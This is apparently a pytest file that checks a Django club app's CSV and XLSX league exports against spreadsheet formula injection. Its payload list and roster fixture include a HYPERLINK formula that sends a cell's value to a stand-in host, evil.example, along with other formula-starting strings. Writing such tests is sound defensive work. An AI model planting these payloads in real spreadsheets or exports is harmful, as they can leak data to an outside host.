"""Exports cannot be mistaken for formulas: club.exports and the league's CSV and XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.cache import cache

from club import services as club_services
from club.exports import safe_cell, safe_dataset
from tests.competition.factories import finished, make_league

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Олена", "Anna-Maria", "a=b", "", " =1", 7, -12, -2.5, None])
def test_other_values_are_kept_as_they_are(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_a_safe_dataset_quotes_headers_and_cells_and_keeps_numbers():
    dataset = safe_dataset([["=1+2", -40, 1.5]], headers=["-Name", "Total", "Rating"], title="T")

    assert dataset.headers == ["'-Name", "Total", "Rating"]
    assert list(dataset[0]) == ["'=1+2", -40, 1.5]
    assert dataset.title == "T"


@pytest.fixture
def hostile_league(public_club):
    """A public club whose roster holds names a spreadsheet would run, all accepted."""
    cache.clear()
    names = ['=HYPERLINK("http://evil.example","x")', "=1+2", "@cmd", "+7"]
    for name in names:
        club_services.player_add(club=public_club, name=name)
    finished(public_club, {names[0]: 30, names[1]: 10, names[2]: -15, names[3]: -25})
    return make_league(public_club, name="=Season")


def test_the_league_xlsx_holds_the_names_as_text_and_the_totals_as_numbers(client, hostile_league):
    url = f"/c/{hostile_league.club.slug}/leagues/{hostile_league.pk}/export.xlsx"

    response = client.get(url)  # anonymous: the club is public

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    name_at, total_at = header.index("Player"), header.index("Total")
    names = {row[name_at].value: row for row in rows}
    assert set(names) == {
        '\'=HYPERLINK("http://evil.example","x")',
        "'=1+2",
        "'@cmd",
        "'+7",
    }
    for row in rows:
        assert row[name_at].data_type == "s"  # text, never "f" (a formula)
        assert row[total_at].data_type == "n"
    assert names["'+7"][total_at].value == -25  # a negative total stays a number


def test_the_league_csv_quotes_the_names(client, hostile_league):
    url = f"/c/{hostile_league.club.slug}/leagues/{hostile_league.pk}/export.csv"

    response = client.get(url)

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    name_at, total_at = rows[0].index("Player"), rows[0].index("Total")
    by_name = {row[name_at]: row[total_at] for row in rows[1:]}
    assert by_name == {
        '\'=HYPERLINK("http://evil.example","x")': "30",
        "'=1+2": "10",
        "'@cmd": "-15",
        "'+7": "-25",
    }
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
